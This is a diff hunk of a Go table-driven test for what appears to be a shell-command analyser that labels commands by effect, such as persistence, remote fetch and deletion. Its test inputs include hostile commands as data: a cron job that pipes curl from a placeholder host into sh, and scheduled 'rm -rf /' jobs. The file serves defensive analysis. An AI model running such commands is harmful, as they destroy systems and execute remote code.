@@ -70,7 +70,7 @@ func TestVerbsRunningLater(t *testing.T) {
 		{"echo '* * * * * curl http://x.example/a | sh' | crontab -", "persist crontab; fetch http://x.example/a; run-remote http://x.example/a"},
 		{"(crontab -l; echo '@reboot rm -rf /') | crontab -", "persist crontab"},
 		{"crontab -e", "persist crontab"},
-		{"echo 'rm -rf /' | at now + 1 minute", "persist at now + 1 minute; delete / wide"},
+		{"echo 'rm -rf /' | at now + 1 minute", "delete / wide; persist at now + 1 minute"},
 		{"at -l", ""},
 		{"at -f job.sh midnight", "persist at midnight; run /home/u/p/job.sh ?"},
 		{"crontab <<< '* * * * * id'", "persist crontab"},
